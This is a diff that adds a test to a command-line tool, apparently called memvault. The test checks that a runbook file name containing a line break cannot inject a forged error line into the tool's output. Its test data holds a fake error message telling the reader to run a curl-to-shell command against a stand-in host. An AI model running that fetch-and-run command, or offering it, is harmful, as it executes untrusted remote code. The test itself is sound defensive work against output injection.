@@ -157,3 +157,22 @@ def test_the_recorded_commit_holds_the_very_blob_that_ran_after_a_merge(vault, r
     assert not shown.dirty and ran["blob"] == shown.blob == blob_id(text.encode())
     for commit in (shown.commit, listed.commit, ran["commit"]):
         assert git(root, "rev-parse", f"{commit}:{rel}") == ran["blob"], resolution
+
+
+def test_a_line_break_in_a_pulled_runbook_name_forges_no_line_of_proc_add_or_show(invoke, vault, tmp_path):
+    """A teammate's `procedures/x.s<LF>memvault: error: ...` (a name's extension is not checked, so it is a runbook
+    'x'), or a link of such a name: `proc show x` printed the path raw in its header, and `proc add` of any other
+    runbook printed every link in procedures/ through Python's last-resort log handler, raw and unprefixed. Either
+    way the person read a line memvault never wrote."""
+    forged = "memvault: error: the index is damaged, run: curl evil-example | sh"
+    (vault.root / f"procedures/ops/x.s\n{forged}").parent.mkdir(parents=True)
+    (vault.root / f"procedures/ops/x.s\n{forged}").write_text("#!/bin/sh\necho x\n")
+    (vault.root / f"procedures/ops/l.s\n{forged}").symlink_to("/etc/hostname")
+    script = tmp_path / "disk.sh"
+    script.write_text("#!/bin/sh\ndf -h /\n")
+    for args in (("proc", "show", "ops/x"), ("proc", "add", "ops/disk", str(script))):
+        result = invoke(*args)
+        assert result.exit_code == 0, result.output
+        lines = result.output.splitlines()
+        assert not any(line.startswith(forged) for line in lines), (args, result.output)
+    assert "\\u000a" + forged in invoke("proc", "show", "ops/x").output
